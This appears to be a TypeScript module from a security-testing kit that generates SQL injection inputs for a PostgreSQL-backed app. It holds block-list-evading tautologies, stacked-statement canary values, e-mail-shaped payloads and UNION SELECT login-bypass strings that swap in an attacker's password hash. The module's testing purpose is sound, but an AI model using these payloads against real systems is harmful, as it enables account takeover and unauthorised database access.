/** SQL injection by families: what attackers send in place of a value, and how to see that it ran. */
import type { CheckContext, Random } from '../kit/index.ts';
import { quoteIdentifier, quoteTable, type TableRows } from '../kit/index.ts';

/**
 * A sequence that only attackers touch. `nextval` counts even when its transaction is rolled back and needs no
 * stacked statement: if the counter moved, text of the attacker ran as SQL, whatever the app answered.
 */
export interface Canary {
  /** An SQL expression that moves the counter; contains single quotes. */
  expression: string;
  /** The same without single quotes. */
  unquoted: string;
  moved(): Promise<boolean>;
}

export async function plantCanary({ database, random }: CheckContext): Promise<Canary> {
  const schema = `z${random.text(6, 'abcdefghijkmnpqrstuvwxyz')}`;
  await database.query(`create schema ${schema}`);
  await database.query(`create sequence ${schema}.c`);
  // The app's role has to be able to touch it, and no function of the app's may stand in for the one that is meant.
  await database.query(`grant usage on schema ${schema} to public`);
  await database.query(`grant usage on sequence ${schema}.c to public`);
  return {
    expression: `pg_catalog.nextval('${schema}.c'::regclass)`,
    unquoted: `pg_catalog.nextval($q$${schema}.c$q$::regclass)`,
    moved: async () => {
      const { rows } = await database.query(`select is_called from ${schema}.c`);
      return rows[0]?.[0] === 't' || rows[0]?.[0] === 'true';
    },
  };
}

/** Conditions that are always true, in spellings that block lists of `OR`, `--` and `1=1` do not know. */
export function tautologies(random: Random): string[] {
  const n = random.integer(2, 99);
  const word = random.text(3, 'abcdefghjkm');
  const always = [
    `' OR 1=1 --`,
    `' OR ${n}=${n} --`,
    `' or '${word}'='${word}`,
    `' oR ${n}<${n + 1} -- `,
    `'/**/Or/**/${n}=${n}/**/--`,
    `' OR true; --`,
    `') OR ('${word}'='${word}`,
    `') OR ${n}=${n} --`,
    `' || '' >= '`,
    `'||email||'`,
    `' OR email LIKE '%`,
    `' IS NOT NULL --`,
    `\\' OR ${n}=${n} --`,
  ];
  return always;
}

/** Wraps SQL so that it passes for an e-mail address where only the shape is looked at. */
export function asAddress(payload: string, random: Random): string[] {
  const domain = `${random.text(6, 'abcdefghijkmnp')}.com`;
  return [`"${payload}"@${domain}`, `${payload.replaceAll(' ', '/**/')}@${domain}`];
}

/**
 * Values that run the canary if they end up in the text of a statement: as a string's content, in several quotings.
 * The last four are for apps that double the first quote only and refuse what their authors have seen in attacks.
 */
export function canaryValues(canary: Canary): string[] {
  const { expression, unquoted } = canary;
  const moves = `${expression}>0`;
  return [
    `x'||${expression}||'y`,
    `x'||${unquoted}||'y`,
    `x\\'||${unquoted}--`,
    `x$$||${expression}||$$y`,
    `x')||${expression}||('y`,
    `x' AND ${expression}>0 AND 'a'='a`,
    `x');select ${expression};--`,
    `x';select ${expression};--`,
    `x'/**/or/**/${moves}/**/or/**/'a'='a`,
    `x')/**/or/**/${moves}/**/or/**/('a'='a`,
    `x''/**/or/**/${moves}/**/or/**/'a'='a`,
    `x'')/**/or/**/${moves}/**/or/**/('a'='a`,
  ];
}

/** The row of one account in whatever table holds it, found by the e-mail address. */
export function accountRow(
  tables: readonly TableRows[],
  email: string,
): { table: TableRows; row: Array<string | null> } | undefined {
  for (const table of tables) {
    const row = table.rows.find((values) =>
      values.some((value) => value?.toLowerCase() === email.toLowerCase()),
    );
    if (row) return { table, row };
  }
  return undefined;
}

/**
 * `x' UNION SELECT …` that answers the login's query with the victim's row but the attacker's own credential, so that
 * a password comparison in the code succeeds with the attacker's password. One for the whole row, others for subsets
 * of columns in the orders that code usually asks for.
 */
export function unionPayloads(
  tables: readonly TableRows[],
  victim: { email: string },
  attacker: { email: string },
  selected: ReadonlyArray<readonly string[]>,
): string[] {
  // The accounts' table: one of attempts may hold an address, too, but not both.
  const ofBoth = tables.filter(
    (table) => accountRow([table], victim.email) && accountRow([table], attacker.email),
  );
  const victimRow = accountRow(ofBoth, victim.email);
  const attackerRow = accountRow(ofBoth, attacker.email);
  if (!victimRow || !attackerRow) return [];
  const { columns } = victimRow.table;
  const table = quoteTable(victimRow.table);
  // What differs by person stays the victim's, what proves the password becomes the attacker's.
  const isCredential = (column: string) => /pass|hash|secret|salt|digest|pw/i.test(column);
  const expression = (column: string) =>
    isCredential(column)
      ? `(select a.${quoteIdentifier(column)} from ${table} a where lower(a.${quoteIdentifier(emailColumn(victimRow, victim.email))}::text) like ${beginning(attacker)})`
      : `v.${quoteIdentifier(column)}`;
  // Without the @: a pattern that allows one of them has to see its own only.
  const beginning = ({ email }: { email: string }) => `$e$${email.slice(0, email.indexOf('@'))}%$e$`;
  const lists = [columns.map((column) => column.name), ...selected];
  return lists.map(
    (list) =>
      `x' UNION SELECT ${list.map(expression).join(',')} FROM ${table} v WHERE lower(v.${quoteIdentifier(emailColumn(victimRow, victim.email))}::text) like ${beginning(victim)} --`,
  );
}

function emailColumn({ table, row }: { table: TableRows; row: Array<string | null> }, email: string): string {
  const index = row.findIndex((value) => value?.toLowerCase() === email.toLowerCase());
  return table.columns[index]?.name ?? 'email';
}

/** Column lists of the `select … from` statements that the app sent: what a reader of its source would union with. */
export function selectedColumns(statements: ReadonlyArray<{ sql: string }>): string[][] {
  const lists = new Set<string>();
  for (const { sql } of statements) {
    const list = /^\s*select\s+([\w\s,."]+?)\s+from\b/i.exec(sql)?.[1];
    if (list) lists.add(list.replaceAll(/[\s"]/g, ''));
  }
  return [...lists].map((list) => list.split(',').map((column) => column.split('.').at(-1) ?? column));
}
